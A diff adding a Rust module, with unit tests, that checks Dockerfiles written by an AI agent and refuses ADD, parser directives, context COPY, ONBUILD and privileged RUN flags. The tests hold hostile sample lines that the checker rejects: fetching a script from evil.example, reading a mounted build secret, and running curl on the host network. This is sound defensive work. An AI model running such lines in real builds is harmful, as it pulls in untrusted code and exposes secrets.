@@ -1,0 +1,203 @@
+//! What a Dockerfile from an agent (`capability-block`) may do, pure. It is
+//! built with no network and an empty build context, so it can only start
+//! from an image and run commands in it; anything that would reach past
+//! that — parser directives (a `# syntax=` frontend is code the builder
+//! fetches and runs), `ADD` (fetches URLs, unpacks archives), `RUN` flags
+//! (`--mount`, `--network`, `--security`), `COPY` from the context (there is
+//! none), `ONBUILD` (instructions hidden for later) — is refused, each with
+//! a reason the agent can act on.
+
+/// Instructions allowed, besides `COPY --from=…`.
+const ALLOWED: &[&str] = &[
+    "FROM",
+    "RUN",
+    "ENV",
+    "ARG",
+    "WORKDIR",
+    "USER",
+    "LABEL",
+    "SHELL",
+    "CMD",
+    "ENTRYPOINT",
+    "EXPOSE",
+    "STOPSIGNAL",
+    "HEALTHCHECK",
+    "MAINTAINER",
+];
+
+/// Checks a Dockerfile; the error names the line and says what to do.
+pub fn check(dockerfile: &str) -> Result<(), String> {
+    for (number, line) in dockerfile.lines().enumerate() {
+        if is_directive(line) {
+            return Err(format!(
+                "line {}: parser directives (# syntax=, # escape=, # check=) are not allowed; remove it",
+                number + 1
+            ));
+        }
+    }
+    let mut saw_from = false;
+    for (number, instruction) in instructions(dockerfile) {
+        let at = |problem: &str| format!("line {number}: {problem}");
+        let mut words = instruction.split_whitespace();
+        let Some(keyword) = words.next().map(str::to_ascii_uppercase) else {
+            continue;
+        };
+        let first = words.next().unwrap_or("");
+        match keyword.as_str() {
+            "ADD" => {
+                return Err(at(
+                    "ADD is not allowed (it fetches URLs and unpacks archives); use RUN, or COPY --from=IMAGE",
+                ));
+            }
+            "ONBUILD" => return Err(at("ONBUILD is not allowed; write the instructions out")),
+            "COPY" if !first.to_ascii_lowercase().starts_with("--from=") => {
+                return Err(at(
+                    "COPY needs --from=IMAGE_OR_STAGE: the image is built with an empty context",
+                ));
+            }
+            "RUN" if first.starts_with("--") => {
+                return Err(at(&format!(
+                    "RUN options ({}) are not allowed: the build has no network, mounts or extra privileges",
+                    first.split('=').next().unwrap_or(first)
+                )));
+            }
+            "FROM" => saw_from = true,
+            "COPY" => {}
+            k if ALLOWED.contains(&k) => {}
+            k => return Err(at(&format!("unknown instruction {k}"))),
+        }
+        if !saw_from && keyword != "ARG" {
+            return Err(at("the first instruction must be FROM (or ARG before it)"));
+        }
+    }
+    if saw_from {
+        Ok(())
+    } else {
+        Err("has no FROM line".into())
+    }
+}
+
+/// `# name=value` at the start of a line: what the builder reads as a
+/// parser directive when it is at the top; refused anywhere, to be plain.
+fn is_directive(line: &str) -> bool {
+    let Some(rest) = line.trim_start().strip_prefix('#') else {
+        return false;
+    };
+    let Some((name, _)) = rest.split_once('=') else {
+        return false;
+    };
+    let name = name.trim();
+    !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+/// The instructions, continuation lines joined and comments dropped, each
+/// with the number of the line it starts on.
+fn instructions(dockerfile: &str) -> Vec<(usize, String)> {
+    let mut out = Vec::new();
+    let mut current: Option<(usize, String)> = None;
+    for (i, line) in dockerfile.lines().enumerate() {
+        let trimmed = line.trim();
+        if trimmed.starts_with('#') || (trimmed.is_empty() && current.is_none()) {
+            continue;
+        }
+        let (body, continues) = match trimmed.strip_suffix('\\') {
+            Some(body) => (body, true),
+            None => (trimmed, false),
+        };
+        let entry = current.get_or_insert_with(|| (i + 1, String::new()));
+        entry.1.push(' ');
+        entry.1.push_str(body);
+        if !continues {
+            out.extend(current.take());
+        }
+    }
+    out.extend(current);
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_may_be_built() {
+        let fine = [
+            "FROM debian:bookworm-slim\nRUN apt-get install -y gcc\n",
+            "ARG BASE=debian:bookworm-slim\nFROM $BASE\nUSER agent\n",
+            "FROM node:20 AS tools\nFROM debian:bookworm-slim\nCOPY --from=tools /usr/local/bin/node /usr/local/bin/\n",
+            "from debian\n# a comment = with an equals sign in prose\nrun true \\\n  && echo done\n",
+            "# A comment\nFROM debian\nENV A=1 \\\n    B=2\nWORKDIR /workspace\n",
+        ];
+        for dockerfile in fine {
+            assert_eq!(check(dockerfile), Ok(()), "{dockerfile}");
+        }
+    }
+
+    #[test]
+    fn what_is_refused() {
+        let cases = [
+            (
+                "# syntax=docker/dockerfile:1\nFROM debian\n",
+                "line 1: parser directives",
+            ),
+            ("#escape=`\nFROM debian\n", "line 1: parser directives"),
+            (
+                "  # check = skip=all\nFROM debian\n",
+                "line 1: parser directives",
+            ),
+            (
+                "FROM debian\nADD https://evil.example/x.sh /x.sh\n",
+                "line 2: ADD is not allowed",
+            ),
+            (
+                "FROM debian\nadd git@github.com:a/b.git /b\n",
+                "line 2: ADD is not allowed",
+            ),
+            (
+                "FROM debian\nADD local.tar /\n",
+                "line 2: ADD is not allowed",
+            ),
+            (
+                "FROM debian\nRUN --mount=type=secret,id=x cat /run/secrets/x\n",
+                "line 2: RUN options (--mount)",
+            ),
+            (
+                "FROM debian\nRUN --network=host curl x\n",
+                "line 2: RUN options (--network)",
+            ),
+            (
+                "FROM debian\nRUN --security=insecure true\n",
+                "line 2: RUN options (--security)",
+            ),
+            (
+                "FROM debian\nRUN true && \\\n  echo\nRUN \\\n  --mount=type=cache,target=/x true\n",
+                "line 4: RUN options (--mount)",
+            ),
+            (
+                "FROM debian\nCOPY . /workspace\n",
+                "line 2: COPY needs --from",
+            ),
+            (
+                "FROM debian\nCOPY --chown=1000 state/ /x\n",
+                "line 2: COPY needs --from",
+            ),
+            (
+                "FROM debian\nONBUILD ADD . /x\n",
+                "line 2: ONBUILD is not allowed",
+            ),
+            (
+                "FROM debian\nFETCH x\n",
+                "line 2: unknown instruction FETCH",
+            ),
+            (
+                "RUN true\nFROM debian\n",
+                "line 1: the first instruction must be FROM",
+            ),
+            ("# only a comment\n", "has no FROM line"),
+        ];
+        for (dockerfile, want) in cases {
+            let err = check(dockerfile).unwrap_err();
+            assert!(err.starts_with(want), "{dockerfile:?}: {err}");
+        }
+    }
+}
